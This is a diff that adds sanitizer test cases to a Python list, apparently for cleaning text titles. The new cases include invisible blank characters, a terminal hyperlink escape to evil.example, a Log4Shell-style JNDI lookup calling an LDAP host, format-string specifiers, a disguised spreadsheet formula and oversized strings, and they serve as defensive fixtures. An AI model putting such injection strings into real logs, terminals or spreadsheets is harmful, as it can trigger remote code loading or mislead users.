@@ -52,7 +52,12 @@ CASES = (
     _worded("noncharacters", "a\ufdd0b\ufdefc", title="a\ufffdb\ufffdc"),
     _worded("a soft hyphen", "ab\u00adcd"),
     _worded("the longest ligature", "﷽" * 100),
+    _worded("blanks that are none", "\u3164\u2800\u00ad", title="\u3164\u2800\u00ad"),
+    _worded("a link of a terminal", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", title="\ufffd]8;;https://evil.example\ufffdx\ufffd]8;;\ufffd"),
+    _worded("look-ups of a logger", "${jndi:ldap://evil.example.org/x} %s%n {0}"),
+    _worded("a formula behind a wide blank", "\u3000=1+1", title="=1+1"),
     # Much.
+    _worded("a million letters", "a" * 10**6),
     _worded("50,000 words", " ".join(["word"] * 50_000)),
     _worded("100,000 letters without a break", "x" * 100_000),
     _worded("100,000 angle brackets", "<" * 100_000),
